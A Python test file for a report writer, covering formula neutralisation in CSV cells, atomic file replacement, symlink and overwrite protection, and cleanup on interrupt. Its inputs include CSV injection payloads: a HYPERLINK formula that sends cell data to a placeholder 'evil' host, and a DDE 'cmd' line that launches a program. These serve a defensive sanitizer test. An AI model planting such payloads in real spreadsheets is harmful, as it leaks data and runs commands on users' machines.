# ruff: noqa: PT012 - a block fails at its end
"""Writers: files appear whole or not at all, and their cells do no harm."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import signal
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bizenv.cli import end_by_signal
from bizenv.kernel.errors import UsageError
from bizenv.tables import writers
from bizenv.tables.writers import cell, csv_file, csv_lines, harmless, json_cell, whole_file


def write(path: Path, text: str, **options: Any) -> None:
    """Write a file as reports do."""
    with whole_file(path, **options) as part:
        part.write_text(text, "utf-8")


def names(folder: Path) -> list[str]:
    """The names of the files in a folder."""
    return sorted(path.name for path in folder.iterdir())


# --- cells ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil/?"&A1,"点这里")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "=cmd|' /C calc'!A0",
        "+86-13800000000",
        "--1",
    ],
)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    """No spreadsheet runs what begins with an apostrophe."""
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    ["区市场监管局", "", "-3.5", "+1", "-1,000.50%", "-", "=", "@", "a=1", " =1", "'=1", 5, None],
)
def test_what_is_no_formula_stays(value: Any) -> None:
    """Plain numbers and lone signs are harmless."""
    assert harmless(value) == value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (dt.date(2023, 6, 15), "2023-06-15"),
        (dt.datetime(2023, 6, 15, 9, 30), "2023-06-15T09:30:00"),
        (12.0, "12"),
        (0.5, "0.5"),
        (7, 7),
        (True, True),
        ("=1", "'=1"),
        (["=1", 2], "['=1', 2]"),
        ({"a": 1}, "{'a': 1}"),
        (Decimal("1.50"), "1.50"),
        (b"=1", "b'=1'"),
    ],
)
def test_a_value_as_a_cell(value: Any, written: Any) -> None:
    """Absent cells are empty, days are ISO, whole floats have no ``.0``."""
    assert cell(value) == written
    assert type(cell(value)) is type(written)


@given(st.text() | st.lists(st.text()) | st.dictionaries(st.text(), st.text()))
def test_no_cell_of_a_csv_file_is_a_formula(value: Any) -> None:
    """Property: what a spreadsheet reads begins with no sign of a formula, numbers aside."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell(value), ""])
    file.seek(0)
    (read, _), *_ = csv.reader(file)
    starts = read.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert not starts or len(read) == 1 or read[1:].replace(",", "").strip("%.0123456789") == ""


# --- files ------------------------------------------------------------------


def test_a_file_takes_its_name_when_it_is_whole(tmp_path: Path) -> None:
    """Until the block ends there is no file of that name; then there is nothing else."""
    path = tmp_path / "report.csv"
    with whole_file(path) as part:
        part.write_text("whole", "utf-8")
        assert part.parent == tmp_path
        assert not path.exists()
    assert path.read_text("utf-8") == "whole"
    assert names(tmp_path) == ["report.csv"]


def test_a_writer_that_fails_leaves_nothing(tmp_path: Path) -> None:
    """Neither the file nor what was written of it."""
    with pytest.raises(ZeroDivisionError), whole_file(tmp_path / "report.csv") as part:
        part.write_text("half", "utf-8")
        1 / 0  # noqa: B018 - it fails on purpose
    assert names(tmp_path) == []


def test_a_writer_that_fails_leaves_the_old_file(tmp_path: Path) -> None:
    """Even where it was to be replaced."""
    path = tmp_path / "report.csv"
    path.write_text("old", "utf-8")
    with pytest.raises(KeyboardInterrupt), whole_file(path, overwrite=True) as part:
        part.write_text("half", "utf-8")
        raise KeyboardInterrupt
    assert path.read_text("utf-8") == "old"
    assert names(tmp_path) == ["report.csv"]


def test_an_existing_file_is_not_overwritten(tmp_path: Path) -> None:
    """Unless that was asked for."""
    path = tmp_path / "report.csv"
    write(path, "old")
    with pytest.raises(UsageError) as caught:
        write(path, "new")
    assert str(caught.value) == f"'{path}' exists: choose another name, or write --overwrite"
    assert caught.value.say("zh") == f"'{path}' 已存在：请换一个名称，或写 --overwrite"
    assert path.read_text("utf-8") == "old"
    write(path, "new", overwrite=True)
    assert path.read_text("utf-8") == "new"
    assert names(tmp_path) == ["report.csv"]


def test_a_file_that_appears_meanwhile_is_not_overwritten(tmp_path: Path) -> None:
    """Two runs do not take each other's report away."""
    path = tmp_path / "report.csv"
    with pytest.raises(UsageError) as caught, whole_file(path) as part:
        part.write_text("new", "utf-8")
        path.write_text("other", "utf-8")
    assert str(caught.value) == f"'{path}' has appeared meanwhile: nothing was written"
    assert caught.value.say("zh") == f"'{path}' 在此期间已被别的程序写出：什么都没有写入"
    assert path.read_text("utf-8") == "other"
    assert names(tmp_path) == ["report.csv"]


def test_a_file_system_without_links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The file is renamed there."""

    def no_links(*_: object) -> None:
        raise OSError("not supported")

    monkeypatch.setattr(writers.os, "link", no_links)
    write(tmp_path / "report.csv", "whole")
    assert (tmp_path / "report.csv").read_text("utf-8") == "whole"
    assert names(tmp_path) == ["report.csv"]


@pytest.mark.parametrize("target", ["there", "gone"])
def test_a_link_is_not_followed(tmp_path: Path, target: str) -> None:
    """It is refused, or replaced; what it points to stays as it is."""
    (tmp_path / "there").write_text("precious", "utf-8")
    path = tmp_path / "report.csv"
    path.symlink_to(tmp_path / target)
    with pytest.raises(UsageError, match="exists: choose another name"):
        write(path, "new")
    write(path, "new", overwrite=True)
    assert (path.read_text("utf-8"), path.is_symlink()) == ("new", False)
    assert (tmp_path / "there").read_text("utf-8") == "precious"
    assert not (tmp_path / "gone").exists()


def test_what_is_no_file_is_never_replaced(tmp_path: Path) -> None:
    """A folder, a pipe, a device such as /dev/null."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "folder").mkdir()
    for path in tmp_path / "pipe", tmp_path / "folder", Path("/dev/null"):
        with pytest.raises(UsageError) as caught:
            write(path, "new", overwrite=True)
        assert str(caught.value) == f"'{path}' is no file: nothing was written"
        assert caught.value.say("zh") == f"'{path}' 不是文件：什么都没有写入"
    assert Path("/dev/null").is_char_device()
    assert names(tmp_path) == ["folder", "pipe"]


def test_a_folder_that_does_not_exist(tmp_path: Path) -> None:
    """It is named, and not made."""
    with pytest.raises(UsageError) as caught:
        write(tmp_path / "gone" / "report.csv", "new")
    assert str(caught.value) == f"'{tmp_path / 'gone'}' is no folder: nothing was written"
    assert caught.value.say("zh") == f"'{tmp_path / 'gone'}' 不是文件夹：什么都没有写入"
    assert names(tmp_path) == []


def test_permissions_are_those_of_any_new_file(tmp_path: Path) -> None:
    """A report is as readable as the user's other files; one that is replaced stays as it was."""
    path, other = tmp_path / "report.csv", tmp_path / "other"
    write(path, "new")
    other.write_text("", "utf-8")
    assert path.stat().st_mode == other.stat().st_mode
    path.chmod(0o600)
    write(path, "newer", overwrite=True)
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_very_long_name(tmp_path: Path) -> None:
    """Two hundred and fifty-five bytes are a name; the file beside it has its own."""
    path = tmp_path / ("检" * 83 + ".csv")
    write(path, "whole")
    assert path.read_text("utf-8") == "whole"


# --- rows -------------------------------------------------------------------


def test_rows_as_csv(tmp_path: Path) -> None:
    """Cells are quoted where they need it; the file begins with a mark and has no other."""
    assert csv_lines([["a,b", 'c"d', 1, None], []]) == ['"a,b","c""d",1,\r\n', "\r\n"]
    with csv_file(tmp_path / "out.csv") as file:
        file.writelines(csv_lines([["编号\ud800"]]))
    assert (tmp_path / "out.csv").read_bytes() == b"\xef\xbb\xbf" + "编号\\ud800\r\n".encode()


def test_a_cell_as_json_knows_it() -> None:
    """At any depth; what JSON has not becomes a text, and not-a-number null."""
    given = {"day": dt.date(2023, 6, 15), "many": [1.0, 0.5, float("nan"), float("-inf")]}
    assert json_cell(given) == {"day": "2023-06-15", "many": [1, 0.5, None, "-inf"]}
    assert json_cell(dt.time(9, 30)) == "09:30:00"
    assert (json_cell(True), json_cell(None), json_cell("x")) == (True, None, "x")


def test_a_command_that_is_told_to_end_leaves_nothing(tmp_path: Path) -> None:
    """SIGTERM is an orderly end, as Ctrl-C is."""
    before = signal.signal(signal.SIGTERM, end_by_signal)
    try:
        with pytest.raises(SystemExit) as caught, whole_file(tmp_path / "report.csv") as part:
            part.write_text("half", "utf-8")
            os.kill(os.getpid(), signal.SIGTERM)
    finally:
        signal.signal(signal.SIGTERM, before)
    assert caught.value.code == 128 + signal.SIGTERM
    assert names(tmp_path) == []
